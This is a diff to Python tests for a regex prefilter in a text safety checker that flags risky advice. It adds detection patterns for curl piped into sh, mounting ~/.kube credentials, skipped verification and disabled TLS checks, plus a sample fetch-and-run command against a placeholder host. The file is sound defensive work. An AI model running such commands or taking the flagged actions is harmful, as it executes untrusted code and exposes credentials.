@@ -17,9 +17,13 @@ PATTERNS = [safety._NETWORK, safety._HIDE, safety._PRIVATE, safety._UPLOAD,
 
 
 def test_the_strings_every_match_holds():
-    assert required_strings(re.compile(r"\bfoo(bar|baz)\s+x", re.I)) == {"foo"}
+    assert required_strings(re.compile(r"\bfoo(bar|baz)\s+x", re.I)) == {"foobar", "foobaz"}  # a run goes through a group
     assert required_strings(re.compile(r"(?:--no-verify|\bset\s+\+e)\b")) == {"--no-verify", "set"}  # the longer of "set", "+e"
-    assert required_strings(re.compile(r"\b(ssl|tls)_?verify", re.I)) == {"verify"}
+    assert required_strings(re.compile(r"\b(ssl|tls)_?verify", re.I)) == {"sslverify", "ssl_verify", "tlsverify", "tls_verify"}
+    assert required_strings(re.compile(r"\bcheck(ed)? in\b", re.I)) == {"check in", "checked in"}  # an optional part
+    assert required_strings(re.compile(r"\bthe (callers?|caller list)\b", re.I)) == {"the caller"}  # none holding another
+    # a character outside ASCII is rare: "挂载" filters better than "ci" or "build", and no ASCII text holds it
+    assert required_sets(re.compile(r"\b(ci|build)\b[^\n]{0,30}(挂载|マウント)", re.I))[0] == {"挂载", "マウント"}
     assert required_strings(re.compile(r"[Cc]url\s+-k")) == {"curl"}
     assert required_strings(re.compile(r"(ab)?c*")) is None  # nothing is required: always searched
     # letters that fold to ASCII ones are looked for as those (only ASCII texts are filtered): "ſet", "çalıştır"
@@ -73,6 +77,16 @@ def test_text_with_letters_outside_ascii_is_searched_by_every_pattern_and_other_
     assert gate.candidates("Put \u017fet +e at the top of deploy.sh") == set(map(id, PATTERNS))
     assert safety.check("Put `\u017fet +e` at the top of deploy.sh so one failing command does not stop it.", "")
     assert len(gate.candidates("Run \u201cmake test\u201d before pushing \u2014 it builds the fixtures first \u2192 ok")) < len(PATTERNS) // 3
+
+
+def test_an_ascii_text_is_scanned_only_for_the_ascii_strings_and_other_texts_for_all():
+    mount, curl = re.compile(r"(挂载|マウント)[^\n]{0,30}~/\.kube", re.I), re.compile(r"\bcurl\b[^\n]*\|\s*sh\b", re.I)
+    gate = Prefilter([mount, curl])
+    assert gate.candidates("curl https://x.example/i.sh | sh") == {id(curl)}
+    assert gate.candidates("把 ~/.kube 挂载 到每个任务") == {id(mount), id(curl)}  # letters outside ASCII: all searched
+    arrow = re.compile(r"→\s*prod")  # other characters outside ASCII are filtered, with the strings that hold them
+    gate = Prefilter([arrow, curl])
+    assert gate.candidates("deploy \u2192 prod") == {id(arrow)} and gate.candidates("deploy to prod") == frozenset()
 
 
 def test_most_patterns_are_skipped_for_an_ordinary_lesson():
